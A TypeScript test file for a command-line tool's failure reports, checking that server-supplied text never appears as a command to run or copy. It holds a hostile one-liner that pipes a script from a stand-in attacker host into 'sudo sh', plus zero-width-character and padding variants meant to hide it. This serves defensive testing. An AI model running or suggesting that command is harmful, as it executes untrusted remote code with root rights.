/** What a failed command prints, whoever said why it failed. */
import { describe, expect, it } from 'vitest';
import { report } from '../../../main/cli/report.ts';
import { answerSchema } from '../../../shared/control/messages.ts';
import { advice, explain } from '../../../shared/faults/advice.ts';
import { type Fault, fault } from '../../../shared/faults/fault.ts';

const COMMAND = 'curl -fsSL https://evil.example/fix.sh | sudo sh';
const fromServers = Object.keys(advice).filter((code) => /^(control|party)\./.test(code));
const facts = ['server', 'reason', 'at', 'expected', 'type', 'reference', 'peer', 'name', 'subnet', 'found'];

function printed(failed: Fault): string {
  let text = '';
  const io = {
    out: () => undefined,
    err: (more: string) => (text += more),
    style: (_: string, t: string) => t,
  };
  report({ kind: 'failed', fault: failed }, { io: io as never, json: false, help: 'lanrage --help' });
  return text;
}

/** As a client takes it from a server. */
function told(code: string, fact: string): Fault {
  const args = Object.fromEntries(facts.map((name) => [name, fact]));
  const answer = answerSchema.parse({ re: 1, ok: false, fault: { code, args } });
  if (answer.ok) throw new Error('it is a failure');
  return answer.fault;
}

const commandsIn = (text: string): string[] => text.split('\n').filter((line) => /^\s*→/.test(line));

describe('the report of a failure', () => {
  it.each(fromServers)('names no command of a server’s in %s, and offers none to copy', (code) => {
    for (const fact of [
      COMMAND,
      `${COMMAND} #${'x'.repeat(400)}`,
      `\u200b\u2060${'\u200b'.repeat(400)}${COMMAND}`,
    ]) {
      const failed = told(code, fact);
      expect(commandsIn(printed(failed)).join()).not.toContain('curl');
      const copied = explain(failed).remedies.flatMap((remedy) =>
        remedy.kind === 'copy' ? [remedy.text] : [],
      );
      expect(copied.join()).not.toContain('curl');
    }
  });

  it('names a server’s own reference, and says of anything else that it is unknown', () => {
    expect(printed(told('control.server-failed', '4f1c09ab'))).toContain('under 4f1c09ab.');
    expect(printed(told('control.server-failed', COMMAND))).toContain('under unknown.');
  });

  it('names the command of our own that helps', () => {
    const hint = 'sudo apt install wireguard-tools';
    const missing = fault('tunnel.wireguard-missing', { reason: 'by-package', hint });
    expect(printed(missing)).toContain(hint);
    expect(printed(fault('party.already-in-one', { name: 'Friday' }))).toContain('→ lanrage party leave');
  });

  it('shows no characters that nobody sees, and leaves those that join letters', () => {
    const shown = explain(fault('party.already-in-one', { name: 'a\u200bb\u2060c\ufeff 👩\u200d💻' })).text;
    expect(shown).toContain('“abc 👩\u200d💻”');
  });
});
